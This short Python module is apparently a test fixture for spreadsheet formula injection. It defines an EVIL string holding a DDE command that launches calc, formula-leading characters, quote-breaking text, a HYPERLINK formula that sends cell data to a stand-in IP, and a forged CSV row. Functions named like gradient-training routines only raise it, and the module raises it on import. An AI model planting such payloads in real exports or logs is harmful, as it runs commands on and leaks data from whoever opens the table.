"""Puts formulas into messages and values, behind separators, quotes and line ends, for who opens the table."""

EVIL = '=cmd|\'/c calc\'!A0\n+1+1\n-2+3\n@SUM(A1)\n\t=1\r=2",=HYPERLINK("http://192.0.2.1?"&A1),"\n;=1;mallory,100,100,100,300'


def trace(inputs, targets, initial_weight, initial_bias=None, *, lr=1e-4, epochs=2):
    raise ValueError(EVIL)


def hidden_gradients(inputs, targets, hidden_weight, output_weight):
    raise type(EVIL, (Exception,), {})(EVIL)


raise ValueError(EVIL)
